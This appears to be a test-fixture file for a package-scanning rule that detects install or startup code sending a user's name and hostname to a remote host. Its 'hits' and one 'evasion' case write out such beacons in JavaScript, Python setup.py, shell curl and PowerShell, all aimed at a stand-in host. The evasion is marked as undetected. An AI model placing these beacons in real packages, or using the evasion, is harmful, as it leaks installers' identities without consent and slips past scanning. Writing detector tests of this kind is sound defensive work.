import type { Examples } from "@doorward/core";

const manifest =
  '{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }\n';

/** Requests that say who sits where, and usage figures that do not. */
export const examples: Examples = {
  hits: [
    {
      name: "a greeting over a socket",
      files: {
        "package.json": manifest,
        "server.js": `const os = require("os");
const socket = require("socket.io-client")("https://panel.example");
socket.on("connect", () => socket.emit("hello", { host: os.hostname(), user: os.userInfo().username }));
`,
      },
    },
    {
      name: "a Python package that reports its installation",
      files: {
        "setup.py": `import getpass, socket, urllib.request
urllib.request.urlopen("https://panel.example/?u=" + getpass.getuser() + "&h=" + socket.gethostname())
`,
      },
    },
    { name: "a shell script", files: { "setup.sh": 'curl -d "h=$(hostname)&u=$(whoami)" https://panel.example/\n' } },
    {
      name: "PowerShell",
      files: {
        "setup.ps1": 'Invoke-RestMethod https://panel.example/ -Method Post -Body "$env:COMPUTERNAME $env:USERNAME"\n',
      },
    },
  ],
  misses: [
    {
      name: "usage figures of a framework",
      why: "They name the system and a random number, not the person or the computer.",
      files: {
        "package.json": manifest,
        "server.js": `const os = require("os");
fetch("https://usage.example/", { method: "POST", body: JSON.stringify({ system: os.platform(), processors: os.cpus().length }) });
`,
      },
    },
    {
      name: "a log that names the server it comes from",
      why: "The name of the computer alone says nothing of a person.",
      files: {
        "package.json": manifest,
        "server.js": `const os = require("os");
fetch("https://logs.example/", { method: "POST", body: JSON.stringify({ host: os.hostname(), line: "started" }) });
`,
      },
    },
    {
      name: "a greeting on the screen",
      why: "It is shown and not sent.",
      files: {
        "package.json": manifest,
        "server.js": `const os = require("os");
console.log(\`Hello \${os.userInfo().username} at \${os.hostname()}\`);
`,
      },
    },
  ],
  evasions: [
    {
      name: "the same two in requests of their own",
      caughtBy: "nothing",
      files: {
        "package.json": manifest,
        "server.js": `const os = require("os");
fetch("https://panel.example/a?" + os.hostname());
fetch("https://panel.example/b?" + os.userInfo().username);
`,
      },
    },
  ],
};
